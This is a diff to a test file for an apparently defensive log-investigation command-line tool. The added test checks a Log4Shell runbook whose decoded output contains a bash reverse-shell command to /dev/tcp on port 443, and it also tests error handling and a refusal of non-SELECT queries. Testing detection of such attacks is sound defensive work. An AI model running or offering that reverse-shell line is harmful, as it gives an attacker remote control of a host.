@@ -63,6 +63,19 @@ describe('investigator logs', () => {
     expect(query.stdout.split('\n')[0]).toBe('ProcessName\tDestinationPort');
     expect(query.stdout).toContain('java\t1389');
 
+    const runbooks = await run('runbooks');
+    expect(runbooks.stdout).toContain(
+      'log4shell-reverse-shell: Log4Shell reverse shell on a Linux web server',
+    );
+    const shell = await run('runbook', 'log4shell-reverse-shell', '--db', db, '--json', '--max-rows', '100');
+    expect(
+      JSON.parse(shell.stdout).rows.map((row: { decoded_payload: unknown }) => row.decoded_payload),
+    ).toContain('bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n');
+    const unknown = await run('runbook', 'nope', '--db', db);
+    expect(unknown.stderr).toMatch(/no runbook "nope"; expected one of cloudtrail-s3-exfiltration/);
+    expect(process.exitCode).toBe(2);
+    process.exitCode = undefined;
+
     const refused = await run('query', '--db', db, `copy log4shell_auditd to '${join(dir, 'out.csv')}'`);
     expect(refused.stderr).toMatch(/^investigator: refused: only SELECT/);
     expect(process.exitCode).toBe(1);
